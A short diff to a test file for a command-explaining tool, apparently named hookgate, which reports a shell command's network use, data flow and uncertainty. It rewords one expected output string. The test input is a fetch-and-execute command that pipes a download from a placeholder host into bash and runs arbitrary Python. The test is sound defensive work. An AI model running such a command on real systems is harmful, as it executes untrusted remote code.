@@ -42,7 +42,7 @@ describe('hookgate explain of a shell command', () => {
 
   it('shows the files that each touches, what it does with the network, where bytes go, and what is uncertain', async () => {
     const lines = await commandsOf('curl -s https://x.example/a | bash; python3 -c "$CODE"')
-    expect(lines).toContain('         receive: https://x.example/a')
+    expect(lines).toContain('         receives from https://x.example/a')
     expect(lines).toContainEqual(expect.stringMatching(/^ {7}0 → 1 by pipe, which runs it as code$/))
     expect(lines).toContainEqual(expect.stringMatching(/uncertain: /))
     expect(lines).toContainEqual(expect.stringMatching(/python code.*: unknown$/))
